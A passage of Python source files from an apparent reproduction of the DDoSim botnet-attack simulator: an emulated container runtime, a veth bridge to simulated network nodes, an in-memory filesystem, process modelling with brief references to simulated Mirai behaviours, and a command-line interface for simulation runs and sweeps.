        if image is None:
            raise ContainerError(f"image not found: {reference}")
        return image

    # ------------------------------------------------------------------
    # Containers
    # ------------------------------------------------------------------
    def create(self, image_reference: str, name: Optional[str] = None) -> Container:
        image = self.get_image(image_reference)
        container_id = f"c{next(self._id_counter):06d}"
        name = name or f"{image.name}-{container_id}"
        if name in self.containers:
            raise ContainerError(f"container name {name!r} already in use")
        container = Container(self.sim, container_id, name, image, seed=self.seed)
        self.containers[name] = container
        return container

    def attach_network(self, container: Container, ghost_node: Node) -> VethPair:
        """Bridge ``container`` into the simulation via ``ghost_node``."""
        pair = VethPair(container, ghost_node)
        self.veths[container.name] = pair
        return pair

    def start(self, container: Container) -> None:
        if container.netns is None:
            raise ContainerError(
                f"{container.name}: start before attach_network (no eth0)"
            )
        container.start()
        self._spawn_counter.inc()
        if self._recorder.enabled:
            self._recorder.note(
                "container.spawn", self.sim.now, container=container.name
            )
        if self._tracer.enabled:
            self._tracer.emit(
                "container.spawn", self.sim.now,
                container=container.name, image=container.image.reference,
            )

    def stop(self, container: Container) -> None:
        was_running = container.state == "running"
        container.stop()
        # Detach the veth so crash/restart loops never accumulate stale
        # bridges; the pair record stays registered so restart() can
        # re-attach to the same ghost node.
        pair = self.veths.get(container.name)
        if pair is not None:
            pair.detach()
        if was_running:
            self._stop_counter.inc()
            if self._recorder.enabled:
                self._recorder.note(
                    "container.stop", self.sim.now, container=container.name
                )
            if self._tracer.enabled:
                self._tracer.emit(
                    "container.stop", self.sim.now, container=container.name
                )

    def restart(self, container: Container) -> None:
        """Crash-and-restart semantics: a *fresh boot* of the container.

        The filesystem is re-cloned from the image (any infection or
        leaked state is gone — the paper's Devs are wiped by a power
        cycle) and a new veth pair bridges it back to the same ghost
        node before the entrypoint runs again.
        """
        if container.state == "running":
            self.stop(container)
        stale = self.veths.get(container.name)
        if stale is None:
            raise ContainerError(
                f"{container.name}: restart before attach_network (no ghost node)"
            )
        container.fs = container.image.fs.clone()
        self.veths[container.name] = VethPair(container, stale.ghost_node)
        self.start(container)
        # Lazily registered: runs without restarts keep their metric
        # snapshot identical to builds that predate this counter.
        self.sim.obs.metrics.counter(
            "container_restarts_total", help="containers restarted (fresh boot)"
        ).inc()
        if self._recorder.enabled:
            self._recorder.note(
                "container.restart", self.sim.now, container=container.name
            )
        if self._tracer.enabled:
            self._tracer.emit(
                "container.restart", self.sim.now, container=container.name
            )

    def remove(self, container: Container) -> None:
        if container.state == "running":
            raise ContainerError(f"{container.name}: stop before remove")
        pair = self.veths.pop(container.name, None)
        if pair is not None:
            pair.detach()
        self.containers.pop(container.name, None)

    def stop_all(self) -> None:
        """The cleaning routine: stop every container (the paper reports
        having to fix NS3DockerEmulator's cleanup crashes — ours is
        idempotent and exception-free by construction)."""
        for container in list(self.containers.values()):
            self.stop(container)

    # ------------------------------------------------------------------
    # Stats (docker stats analogue)
    # ------------------------------------------------------------------
    def running_containers(self) -> List[Container]:
        return [
            container
            for container in self.containers.values()
            if container.state == "running"
        ]

    def stats(self) -> List[Tuple[str, int]]:
        """(name, memory_bytes) for every running container."""
        return [
            (container.name, container.memory_bytes())
            for container in self.running_containers()
        ]

    def total_memory_bytes(self) -> int:
        return sum(memory for _name, memory in self.stats())
