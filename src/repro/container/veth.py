"""veth/TapBridge emulation: splicing containers into the simulated net.

NS3DockerEmulator's trick (paper §II-A): a Linux veth pair bridges the
container's ``eth0`` to an NS-3 *ghost node* whose TapBridge NetDevice
replays the traffic into the simulation, so the container believes it is
directly attached to the simulated network.

Here the ghost node is a real :class:`repro.netsim.node.Node`; the
:class:`NetNamespace` a container receives is a socket factory bound to
that node, so container programs do ordinary socket I/O and their packets
traverse the simulated Internet like everyone else's.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Optional

from repro.netsim.address import Address, Ipv6Address
from repro.netsim.node import Node
from repro.netsim.sockets import TcpServerSocket, TcpSocket, UdpSocket

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.container.container import Container


class NetNamespace:
    """A container's view of its network: socket factories over one node."""

    def __init__(self, node: Node):
        self.node = node

    def address(self, want_ipv6: bool = True) -> Optional[Address]:
        """The namespace's primary address (the ghost node's)."""
        return self.node.primary_address(want_ipv6)

    def udp_socket(self, port: int = 0) -> UdpSocket:
        return UdpSocket(self.node, port)

    def tcp_connect(self, address: Address, port: int) -> TcpSocket:
        return TcpSocket.connect(self.node, address, port)

    def tcp_listen(self, port: int) -> TcpServerSocket:
        return TcpServerSocket(self.node, port)

    def join_multicast(self, group: Ipv6Address) -> None:
        self.node.ip.join_multicast(group)


class VethPair:
    """The bridge record tying a container to its ghost node."""

    def __init__(self, container: "Container", ghost_node: Node):
        self.container = container
        self.ghost_node = ghost_node
        self.netns = NetNamespace(ghost_node)
        container.netns = self.netns

    def detach(self) -> None:
        """Tear the bridge down (container loses network access)."""
        if self.container.netns is self.netns:
            self.container.netns = None

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<VethPair {self.container.name} <-> {self.ghost_node.name}>"
