"""Containers: filesystem + process table + memory accounting.

A container instantiates an image's filesystem, runs processes (its
entrypoint plus anything ``exec_run`` adds — the ``docker exec``
analogue), and reports its memory footprint, which
:mod:`repro.core.resources` aggregates into the paper's Table I
"Pre-attack Mem" / "Attack Mem" columns.
"""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING, Dict, List, Optional

from repro.container import loaders
from repro.container.fs import FilesystemError, InMemoryFilesystem
from repro.container.image import Image
from repro.container.process import ContainerProcess, DEFAULT_PROCESS_RSS
from repro.netsim.simulator import Simulator

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.container.veth import NetNamespace

CREATED = "created"
RUNNING = "running"
STOPPED = "stopped"


class ContainerError(RuntimeError):
    """Container lifecycle / exec errors."""


class Container:
    """One emulated container."""

    def __init__(
        self,
        sim: Simulator,
        container_id: str,
        name: str,
        image: Image,
        seed: int = 0,
    ):
        self.sim = sim
        self.id = container_id
        self.name = name
        self.image = image
        self.seed = seed
        self.fs: InMemoryFilesystem = image.fs.clone()
        self.env = dict(image.env)
        self.state = CREATED
        self.netns: Optional["NetNamespace"] = None
        self.processes: Dict[int, ContainerProcess] = {}
        self._next_pid = 1
        self.logs: List[str] = []
        self.started_at: Optional[float] = None
        #: sharded-engine merge hook: the coordinator patches replica
        #: containers with the owning shard's reported RSS so post-merge
        #: accounting matches a single-process run byte-for-byte.
        self._memory_override: Optional[int] = None

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def start(self) -> None:
        """Start the container: run its entrypoint (if any)."""
        if self.state == RUNNING:
            raise ContainerError(f"{self.name} is already running")
        self.state = RUNNING
        self.started_at = self.sim.now
        if self.image.entrypoint:
            self.exec_run(self.image.entrypoint)

    def stop(self) -> None:
        """Stop the container: kill every live process."""
        if self.state != RUNNING:
            return
        for process in list(self.processes.values()):
            process.kill()
        self.state = STOPPED

    # ------------------------------------------------------------------
    # Process management
    # ------------------------------------------------------------------
    def exec_run(self, argv, name: Optional[str] = None) -> ContainerProcess:
        """Run a command in the container (``docker exec`` analogue).

        ``argv`` may be a list or a shell-ish string.  The first element
        must resolve to an executable file in the container filesystem;
        behaviour comes from the file's attached program or, failing that,
        a registered binary loader.
        """
        if self.state != RUNNING:
            raise ContainerError(f"cannot exec in {self.state} container {self.name}")
        if isinstance(argv, str):
            argv = shlex.split(argv)
        if not argv:
            raise ContainerError("empty argv")
        path = argv[0]
        try:
            entry = self.fs.entry(path)
        except FilesystemError as error:
            raise ContainerError(f"{self.name}: exec {path!r}: {error}") from None
        if not entry.executable:
            raise ContainerError(f"{self.name}: exec {path!r}: permission denied")
        rss = DEFAULT_PROCESS_RSS
        program = entry.program
        if program is None:
            resolved = loaders.resolve_program(entry.data)
            if resolved is None:
                raise ContainerError(f"{self.name}: exec {path!r}: exec format error")
            program, resolved_name, rss = resolved
            name = name or resolved_name
        pid = self._next_pid
        self._next_pid += 1
        process = ContainerProcess(self, pid, argv, program, name=name, rss_bytes=rss)
        self.processes[pid] = process
        return process

    def _reap(self, process: ContainerProcess) -> None:
        self.processes.pop(process.pid, None)

    def live_processes(self) -> List[ContainerProcess]:
        return [process for process in self.processes.values() if process.alive]

    def find_processes(self, name: str) -> List[ContainerProcess]:
        """Processes whose name contains ``name`` (Mirai's rival scan)."""
        return [
            process for process in self.live_processes() if name in process.name
        ]

    def processes_bound_to(self, port: int) -> List[ContainerProcess]:
        """Processes holding ``port`` (Mirai kills 22/23 binders)."""
        return [
            process
            for process in self.live_processes()
            if port in process.bound_ports
        ]

    def kill_process(self, pid: int) -> bool:
        process = self.processes.get(pid)
        if process is None or not process.alive:
            return False
        process.kill()
        return True

    # ------------------------------------------------------------------
    # Accounting
    # ------------------------------------------------------------------
    def memory_bytes(self) -> int:
        """Container RSS: image base + filesystem + per-process RSS."""
        if self._memory_override is not None:
            return self._memory_override
        if self.state != RUNNING:
            return 0
        process_rss = sum(process.rss_bytes for process in self.live_processes())
        return self.image.base_rss_bytes + self.fs.total_bytes + process_rss

    def log(self, message: str) -> None:
        self.logs.append(f"[{self.sim.now:10.3f}] {message}")

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return f"<Container {self.name} ({self.image.reference}) {self.state}>"
