"""Pluggable binary loaders: turn file *bytes* into runnable programs.

Image-baked files carry their behaviour directly (``FileEntry.program``).
Files that arrive over the simulated network — the Mirai binary that
``curl`` downloads from the attacker's file server — are plain bytes, so
executing them needs a loader that recognizes the format.
:mod:`repro.binaries.binfmt` registers such a loader for its emulated
"ELF" images; this module is just the registry, so the container layer
does not depend on the binaries layer.
"""

from __future__ import annotations

from typing import Callable, List, Optional, Tuple

#: loader(data) -> (program_factory, process_name, rss_bytes) or None
BinaryLoader = Callable[[bytes], Optional[Tuple[Callable, str, int]]]

_loaders: List[BinaryLoader] = []


def register_loader(loader: BinaryLoader) -> None:
    """Register a loader; later registrations are tried first."""
    _loaders.insert(0, loader)


def resolve_program(data: bytes) -> Optional[Tuple[Callable, str, int]]:
    """Try every registered loader; None when no format matches."""
    for loader in _loaders:
        resolved = loader(data)
        if resolved is not None:
            return resolved
    return None
