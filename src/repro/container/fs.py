"""An in-memory filesystem for emulated containers.

Holds image layers and container-writable state.  The infection chain
exercises it heavily: ``curl`` writes the downloaded Mirai binary here,
``chmod +x`` flips its mode bits, the bot then deletes its own binary to
hide (one of the Mirai behaviours §III-A of the paper calls out).
"""

from __future__ import annotations

from typing import Dict, Iterator, List


class FilesystemError(OSError):
    """Raised for missing paths, bad modes, and similar filesystem faults."""


def normalize_path(path: str) -> str:
    """Normalize to an absolute, '/'-separated path with no empty segments."""
    if not path:
        raise FilesystemError("empty path")
    segments: List[str] = []
    for segment in path.split("/"):
        if segment in ("", "."):
            continue
        if segment == "..":
            if segments:
                segments.pop()
            continue
        segments.append(segment)
    return "/" + "/".join(segments)


class FileEntry:
    """One file: contents, POSIX-ish mode bits, and an optional program.

    ``program`` attaches executable *behaviour* to the file — a factory
    ``program(ctx) -> generator`` that the container runtime drives as a
    process.  Files that arrive over the network (e.g. a downloaded Mirai
    binary) carry no program attribute; the loader recovers behaviour from
    the binary image embedded in ``data`` (see
    :mod:`repro.binaries.binfmt`).
    """

    __slots__ = ("data", "mode", "mtime", "program")

    def __init__(self, data: bytes, mode: int = 0o644, mtime: float = 0.0, program=None):
        self.data = data
        self.mode = mode
        self.mtime = mtime
        self.program = program

    @property
    def executable(self) -> bool:
        return bool(self.mode & 0o111)

    @property
    def size(self) -> int:
        return len(self.data)

    def copy(self) -> "FileEntry":
        return FileEntry(self.data, self.mode, self.mtime, self.program)


class InMemoryFilesystem:
    """A flat path -> :class:`FileEntry` store (directories are implicit)."""

    def __init__(self) -> None:
        self._files: Dict[str, FileEntry] = {}

    # ------------------------------------------------------------------
    # Basic operations
    # ------------------------------------------------------------------
    def write_file(
        self,
        path: str,
        data: bytes,
        mode: int = 0o644,
        mtime: float = 0.0,
        program=None,
    ) -> FileEntry:
        entry = FileEntry(data, mode, mtime, program)
        self._files[normalize_path(path)] = entry
        return entry

    def read_file(self, path: str) -> bytes:
        return self.entry(path).data

    def entry(self, path: str) -> FileEntry:
        normalized = normalize_path(path)
        entry = self._files.get(normalized)
        if entry is None:
            raise FilesystemError(f"no such file: {normalized}")
        return entry

    def exists(self, path: str) -> bool:
        return normalize_path(path) in self._files

    def remove(self, path: str) -> None:
        normalized = normalize_path(path)
        if normalized not in self._files:
            raise FilesystemError(f"no such file: {normalized}")
        del self._files[normalized]

    def chmod(self, path: str, mode: int) -> None:
        self.entry(path).mode = mode

    def append(self, path: str, data: bytes) -> None:
        normalized = normalize_path(path)
        entry = self._files.get(normalized)
        if entry is None:
            self.write_file(normalized, data)
        else:
            entry.data = entry.data + data

    # ------------------------------------------------------------------
    # Introspection
    # ------------------------------------------------------------------
    def list_dir(self, prefix: str = "/") -> List[str]:
        """All paths under ``prefix`` (sorted)."""
        normalized = normalize_path(prefix)
        if normalized != "/":
            normalized += "/"
        return sorted(
            path for path in self._files if path.startswith(normalized) or path == normalized.rstrip("/")
        )

    def walk(self) -> Iterator[str]:
        return iter(sorted(self._files))

    @property
    def total_bytes(self) -> int:
        """Sum of file sizes — feeds container memory accounting."""
        return sum(entry.size for entry in self._files.values())

    @property
    def file_count(self) -> int:
        return len(self._files)

    # ------------------------------------------------------------------
    # Layering
    # ------------------------------------------------------------------
    def clone(self) -> "InMemoryFilesystem":
        """Copy-on-write-ish clone used when a container starts from an
        image (entries are copied shallowly; ``data`` bytes are immutable)."""
        clone = InMemoryFilesystem()
        for path, entry in self._files.items():
            clone._files[path] = entry.copy()
        return clone

    def overlay(self, other: "InMemoryFilesystem") -> None:
        """Apply another filesystem's entries on top of this one."""
        for path in other.walk():
            self._files[path] = other.entry(path).copy()
