"""Container processes and the context handed to emulated programs.

An emulated "binary" is a generator function ``program(ctx)``; the runtime
wraps it in a :class:`repro.netsim.process.SimProcess`.  ``ctx`` is this
module's :class:`ProcessContext`: the process's window onto its container
(filesystem, process table, network namespace) — roughly what a real
process sees through the kernel.

Process names are *mutable* because Mirai obfuscates its own process name
after infection, and Mirai's rival-killing scans the process table by name
and by bound port — both behaviours the paper reproduces and we model.
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Callable, List, Optional, Set

from repro.netsim.process import ProcessKilled, SimFuture, SimProcess, Timeout

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.container.container import Container

#: default resident-set size charged per process (bytes)
DEFAULT_PROCESS_RSS = 2 * 1024 * 1024


class ProcessContext:
    """What an emulated program can see and do."""

    def __init__(self, container: "Container", process: "ContainerProcess"):
        self.container = container
        self.process = process
        self.sim = container.sim
        # Deterministic per-process randomness (ASLR draws, jitter):
        # derived from the container's seed so whole runs replay exactly.
        self.rng = random.Random(
            f"{container.seed}/{container.id}/{process.pid}/process-rng"
        )

    # Convenience proxies -------------------------------------------------
    @property
    def fs(self):
        return self.container.fs

    @property
    def netns(self):
        """The container's network namespace (None if not attached)."""
        return self.container.netns

    @property
    def argv(self) -> List[str]:
        return self.process.argv

    @property
    def pid(self) -> int:
        return self.process.pid

    def sleep(self, seconds: float) -> Timeout:
        """``yield ctx.sleep(x)`` suspends the process for x virtual secs."""
        return Timeout(self.sim, seconds)

    def spawn(self, argv: List[str], name: Optional[str] = None) -> "ContainerProcess":
        """fork+exec a sibling process in the same container."""
        return self.container.exec_run(argv, name=name)

    def set_process_name(self, name: str) -> None:
        """prctl(PR_SET_NAME) — Mirai's obfuscation hook."""
        self.process.name = name

    def bind_port_marker(self, port: int) -> None:
        """Record that this process holds ``port`` (for rival killing)."""
        self.process.bound_ports.add(port)

    def release_port_marker(self, port: int) -> None:
        self.process.bound_ports.discard(port)

    def log(self, message: str) -> None:
        self.container.log(f"[pid {self.pid} {self.process.name}] {message}")


class ContainerProcess:
    """One entry in a container's process table."""

    def __init__(
        self,
        container: "Container",
        pid: int,
        argv: List[str],
        program: Callable,
        name: Optional[str] = None,
        rss_bytes: int = DEFAULT_PROCESS_RSS,
    ):
        self.container = container
        self.pid = pid
        self.argv = list(argv)
        self.name = name or (argv[0].rsplit("/", 1)[-1] if argv else "proc")
        self.rss_bytes = rss_bytes
        self.bound_ports: Set[int] = set()
        self.context = ProcessContext(container, self)
        self.exited = False
        self.exit_value = None
        self.exit_error: Optional[BaseException] = None
        self._sim_process = SimProcess(
            container.sim, program(self.context), name=f"{container.name}:{self.name}"
        )
        self._sim_process.add_callback(self._on_exit)

    # ------------------------------------------------------------------
    @property
    def alive(self) -> bool:
        return not self.exited

    @property
    def future(self) -> SimFuture:
        """Future resolving when the process exits (waitpid analogue)."""
        return self._sim_process

    def kill(self) -> None:
        """SIGKILL analogue: raise ProcessKilled inside the coroutine."""
        self._sim_process.kill(ProcessKilled(f"pid {self.pid} ({self.name}) killed"))

    def _on_exit(self, future: SimFuture) -> None:
        self.exited = True
        self.exit_value = future.value
        self.exit_error = future.error
        self.bound_ports.clear()
        self.container._reap(self)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "exited" if self.exited else "running"
        return f"<ContainerProcess pid={self.pid} {self.name!r} {state}>"
