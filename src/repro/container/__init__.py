"""repro.container — an emulated container runtime (the Docker substitute).

DDoSim uses Docker for three things (§II of the paper):

1. running a user-selected network-facing binary per Dev with low overhead
   (containers instead of QEMU full-system emulation, for scalability);
2. splicing each container into the NS-3 network through a
   veth/TapBridge pair (the "ghost node" trick from NS3DockerEmulator);
3. multi-architecture images via Docker Buildx.

This package emulates that surface: :class:`~repro.container.image.Image`
and :class:`~repro.container.build.ImageBuilder` (Dockerfile-ish builds,
Buildx multi-arch), :class:`~repro.container.container.Container` (an
in-memory filesystem, a process table, per-container memory accounting),
:class:`~repro.container.runtime.ContainerRuntime` (the engine), and
:mod:`~repro.container.veth` (bridging a container's ``eth0`` to a
:class:`repro.netsim.node.Node`).
"""

from repro.container.build import BuildError, ImageBuilder, buildx_bake
from repro.container.container import Container, ContainerError
from repro.container.fs import FileEntry, InMemoryFilesystem
from repro.container.image import Image
from repro.container.process import ContainerProcess, ProcessContext
from repro.container.runtime import ContainerRuntime
from repro.container.veth import NetNamespace, VethPair

__all__ = [
    "BuildError",
    "Container",
    "ContainerError",
    "ContainerProcess",
    "ContainerRuntime",
    "FileEntry",
    "Image",
    "ImageBuilder",
    "InMemoryFilesystem",
    "NetNamespace",
    "ProcessContext",
    "VethPair",
    "buildx_bake",
]
