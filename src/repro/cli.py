"""Command-line interface: ``python -m repro <command> ...``.

Commands:

* ``run``         — one DDoSim run with chosen parameters.
* ``figure2``     — Devs x churn sweep (paper Figure 2).
* ``figure3``     — attack-duration sweep (paper Figure 3).
* ``table1``      — host-resource table (paper Table I).
* ``figure4``     — hardware-model vs DDoSim validation (paper Figure 4).
* ``faultsweep``  — fault-plan intensity sweep (``repro.faults``).
* ``recruitment`` — infection rate per CVE x protection profile (R1/R2).
* ``epidemic``    — worm-spread propagation + SI fit (use case V-A2).
* ``obs``         — fully-instrumented run: scheduler profile, event
  counts, optional Chrome trace / metrics / filtered JSONL exports.
* ``report``      — self-contained HTML report of one run (span
  timeline, attack tree, sparklines, flight-recorder dumps) or of the
  cached Figure 2 sweep; ``--flows`` adds a NetFlow-style JSONL export.
* ``cache``       — run-cache maintenance: ``stats``, ``clear``, ``gc``.
* ``chaos``       — crash-recovery proof: run a scenario straight, then
  SIGKILL an identical run right after a seeded checkpoint, resume it,
  and require byte-identical results.
* ``lint``        — determinism linter (``repro.simlint``): SIM1xx file
  rules plus the SIM2xx whole-program shard-safety rules; nonzero exit
  on violations (the CI gate).  ``--fix`` applies mechanical rewrites,
  ``--diff BASE`` lints only changed files, ``--baseline FILE``
  subtracts recorded findings.
* ``verify-determinism`` — execute the determinism contract: one config
  twice (first diverging trace event on mismatch) and a figure2 sweep
  at ``--jobs 1`` vs ``--jobs N`` (rows must be byte-identical).

Every sweep command accepts ``--csv PATH`` / ``--json PATH`` to archive
the rows, and caches finished grid points under ``--cache-dir``
(default ``.repro-cache``) so a repeated sweep recomputes only changed
points — ``--no-cache`` forces every point to simulate.  ``run``
accepts ``--config PATH`` to load a JSON config
and ``--faults PATH`` to arm a :mod:`repro.faults` plan against it.
``run`` also accepts ``--trace-out`` (full instrumentation + Chrome
``trace_event`` file — load it at ``chrome://tracing`` or
https://ui.perfetto.dev) and ``--metrics-out`` (metrics-registry
snapshot; metrics-only instrumentation so the snapshot stays
byte-comparable across runs), plus ``--checkpoint-every N`` /
``--checkpoint-dir`` to write resumable state checkpoints and
``--resume-from PATH`` to continue a killed run from its last
checkpoint (byte-identical to the uninterrupted run; see
``repro.checkpoint``).  Sweeps accept ``--point-timeout`` /
``--retries`` to arm supervised execution: hung or crashed grid points
are retried with backoff and quarantined instead of killing the sweep.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.core.results import format_table
from repro.serialization import (
    config_from_json,
    result_to_json,
    rows_to_csv,
)


def _add_common_run_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--devs", type=int, default=20, help="number of Devs")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--churn", choices=("none", "static", "dynamic"),
                        default="none")
    parser.add_argument("--duration", type=float, default=100.0,
                        help="attack duration (s)")
    parser.add_argument("--binary-mix", choices=("mixed", "connman", "dnsmasq"),
                        default="mixed")
    parser.add_argument("--payload", type=int, default=512,
                        help="UDP-PLAIN payload size (bytes)")
    parser.add_argument("--scheduler", choices=("heap", "calendar"),
                        default="heap",
                        help="event scheduler (identical results, "
                             "different speed)")
    parser.add_argument("--train", type=int, default=1,
                        help="flood packet-train size (1 = exact "
                             "per-packet datapath)")
    parser.add_argument("--flow", choices=("off", "auto", "all"),
                        default="off",
                        help="fluid-flow crossover: off = exact packet "
                             "path, auto = fluid upstream with packet-"
                             "exact bottleneck/sink, all = fully "
                             "analytic flood")
    parser.add_argument("--faults",
                        help="JSON fault plan to arm against the run "
                             "(see repro.faults.FaultPlan)")
    parser.add_argument("--shards", type=int, default=1, metavar="N",
                        help="partition this ONE run across N processes "
                             "(repro.netsim.shard); results are byte-"
                             "identical to --shards 1")


def _config_from_args(args: argparse.Namespace) -> SimulationConfig:
    if getattr(args, "config", None):
        with open(args.config, encoding="utf-8") as handle:
            config = config_from_json(handle.read())
    else:
        config = SimulationConfig(
            n_devs=args.devs,
            seed=args.seed,
            churn=args.churn,
            attack_duration=args.duration,
            binary_mix=args.binary_mix,
            attack_payload_size=args.payload,
            sim_duration=max(600.0, args.duration + 150.0),
            scheduler=args.scheduler,
            flood_train=args.train,
            flood_flow=args.flow,
        )
    if getattr(args, "faults", None):
        from dataclasses import replace

        from repro.faults import load_fault_plan

        config = replace(config, faults=load_fault_plan(args.faults))
    return config


def _emit_rows(rows, args) -> None:
    print(format_table(rows))
    if getattr(args, "csv", None):
        with open(args.csv, "w", encoding="utf-8") as handle:
            handle.write(rows_to_csv(rows))
        print(f"wrote {args.csv}")
    if getattr(args, "json", None):
        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump(rows, handle, indent=2)
        print(f"wrote {args.json}")


def _add_output_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--csv", help="write rows as CSV to this path")
    parser.add_argument("--json", help="write rows as JSON to this path")


def _add_supervision_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--point-timeout", type=float, metavar="S",
                        help="wall-clock seconds one grid point may run "
                             "before its worker is killed and the point "
                             "retried with backoff; exhausted points are "
                             "quarantined and the sweep completes")
    parser.add_argument("--retries", type=int, metavar="N",
                        help="retry budget per grid point for timeouts, "
                             "hangs, and worker deaths (default: 1)")


def _add_cache_args(parser: argparse.ArgumentParser) -> None:
    from repro.cache import DEFAULT_CACHE_DIR

    parser.add_argument("--cache", dest="cache", action="store_true",
                        default=True,
                        help="serve unchanged grid points from the run "
                             "cache (default)")
    parser.add_argument("--no-cache", dest="cache", action="store_false",
                        help="always simulate every grid point")
    parser.add_argument("--cache-dir", default=DEFAULT_CACHE_DIR,
                        help="run-cache directory "
                             f"(default: {DEFAULT_CACHE_DIR})")


def _cache_from_args(args: argparse.Namespace):
    """The sweep's RunCache, or ``None`` under ``--no-cache``."""
    if not getattr(args, "cache", False):
        return None
    from repro.cache import RunCache

    return RunCache(root=args.cache_dir)


def _telemetry_from_args(args: argparse.Namespace, label: str):
    """The sweep's :class:`repro.parallel.SweepTelemetry` — chatty under
    ``--progress``, quiet otherwise.  Always constructed, so every sweep
    parent carries a flight recorder that dumps a post-mortem on worker
    death, quarantine, or interruption (^C / SIGTERM)."""
    from repro.parallel import SweepTelemetry

    return SweepTelemetry(label=label,
                          quiet=not getattr(args, "progress", False))


def _supervision_from_args(args: argparse.Namespace):
    """A :class:`repro.parallel.Supervision` built from ``--point-timeout``
    / ``--retries``, or ``None`` for the default policy (retry once on
    worker death, no timeout)."""
    timeout = getattr(args, "point_timeout", None)
    retries = getattr(args, "retries", None)
    if timeout is None and retries is None:
        return None
    from repro.parallel import Supervision

    kwargs = {}
    if timeout is not None:
        kwargs["point_timeout"] = timeout
    if retries is not None:
        kwargs["retries"] = retries
    return Supervision(**kwargs)


def _check_writable(*paths: Optional[str]) -> None:
    """Fail before the (possibly long) run, not after, on bad out paths."""
    for path in paths:
        if path:
            with open(path, "w", encoding="utf-8"):
                pass


def _dump_interrupt(ddosim) -> None:
    """^C / SIGTERM post-mortem: force the run's always-on flight
    recorder out to stderr so an interrupted run leaves a trail."""
    try:
        recorder = ddosim.obs.recorder
        record = recorder.dump("run.interrupted", ddosim.sim.now)
        if record is not None:
            print(recorder.format_dump(record), file=sys.stderr)
    except Exception:  # the post-mortem must never mask the interrupt
        pass


def cmd_run(args: argparse.Namespace) -> int:
    """Run one simulation with the flag-built (or file-loaded) config,
    optionally checkpointing it or resuming a killed run."""
    from repro.obs import Observatory

    trace_out = getattr(args, "trace_out", None)
    metrics_out = getattr(args, "metrics_out", None)
    _check_writable(trace_out, metrics_out)
    # Full instrumentation only for the Chrome trace: the profiler's
    # wall-clock gauges would make a --metrics-out snapshot differ
    # between two runs of the same config, and checkpoint/resume
    # equivalence (repro chaos) compares those snapshots byte-for-byte.
    if trace_out:
        observatory = Observatory.full()
    elif metrics_out:
        observatory = Observatory()
    else:
        observatory = None

    resume_from = getattr(args, "resume_from", None)
    checkpoint_every = getattr(args, "checkpoint_every", None)
    ddosim = None
    try:
        if resume_from:
            from repro.checkpoint import resume_run

            resumed = resume_run(resume_from, observatory=observatory)
            ddosim, result = resumed.ddosim, resumed.result
            anchor = resumed.checkpoint
            print(
                f"resumed from checkpoint tick {anchor['tick']} "
                f"(t={anchor['t']:g}): replay verified "
                f"{len(resumed.writer.verified)} barrier(s)",
                file=sys.stderr,
            )
        else:
            config = _config_from_args(args)
            shards = getattr(args, "shards", 1) or 1
            if shards > 1:
                from repro.checkpoint import DEFAULT_CHECKPOINT_DIR
                from repro.netsim.shard import run_sharded

                if trace_out:
                    print(
                        "error: --shards cannot be combined with "
                        "--trace-out (the tracer is per-process; run "
                        "--shards 1 for traces — results are identical)",
                        file=sys.stderr,
                    )
                    return 2
                sharded = run_sharded(
                    config, shards,
                    observatory=observatory,
                    checkpoint_dir=(
                        (getattr(args, "checkpoint_dir", None)
                         or DEFAULT_CHECKPOINT_DIR)
                        if checkpoint_every else None
                    ),
                    checkpoint_every=checkpoint_every,
                    kill_after=getattr(args, "kill_after_checkpoint", None),
                )
                ddosim, result = sharded.ddosim, sharded.result
                stats = sharded.stats
                print(
                    f"sharded: {stats['workers']} worker(s), "
                    f"{stats['sync_rounds']} sync rounds, "
                    f"{stats['handoffs_up'] + stats['handoffs_down']} "
                    f"cross-shard hand-offs",
                    file=sys.stderr,
                )
            else:
                ddosim = DDoSim(config, observatory=observatory)
                if checkpoint_every:
                    from repro.checkpoint import (
                        DEFAULT_CHECKPOINT_DIR,
                        CheckpointWriter,
                    )

                    writer = CheckpointWriter(
                        getattr(args, "checkpoint_dir", None)
                        or DEFAULT_CHECKPOINT_DIR,
                        checkpoint_every,
                        kill_after=getattr(args, "kill_after_checkpoint", None),
                    )
                    writer.arm(ddosim)
                result = ddosim.run()
    except KeyboardInterrupt:
        if ddosim is not None:
            _dump_interrupt(ddosim)
        return 130
    if args.json:
        with open(args.json, "w", encoding="utf-8") as handle:
            handle.write(result_to_json(result))
        print(f"wrote {args.json}")
    if trace_out:
        ddosim.obs.write_trace_chrome(trace_out)
        print(f"wrote {trace_out} ({sum(ddosim.obs.tracer.counts().values())} events)")
    if metrics_out:
        ddosim.obs.write_metrics_json(metrics_out)
        print(f"wrote {metrics_out}")
    print(format_table([result.row()]))
    return 0


def cmd_obs(args: argparse.Namespace) -> int:
    """Run fully instrumented and report where the simulation spends
    its time and what it emits."""
    from repro.obs import Observatory

    config = _config_from_args(args)
    _check_writable(args.trace_out, args.metrics_out, args.jsonl_out)
    observatory = Observatory.full(trace_capacity=args.trace_capacity)
    ddosim = DDoSim(config, observatory=observatory)
    ddosim.run()

    profiler = ddosim.obs.profiler
    print("scheduler hot sites (by wall time)")
    print(profiler.format_table(limit=args.top))
    print()
    print("event counts (emitted / retained)")
    tracer = ddosim.obs.tracer
    counts = tracer.counts()
    for name in sorted(counts):
        retained = len(tracer.events(name))
        evicted = tracer.evicted.get(name, 0)
        suffix = f" ({evicted} evicted)" if evicted else ""
        print(f"  {name:<22} {counts[name]:>8} / {retained}{suffix}")
    if args.trace_out:
        ddosim.obs.write_trace_chrome(args.trace_out)
        print(f"wrote {args.trace_out}")
    if args.metrics_out:
        ddosim.obs.write_metrics_json(args.metrics_out)
        print(f"wrote {args.metrics_out}")
    if args.jsonl_out:
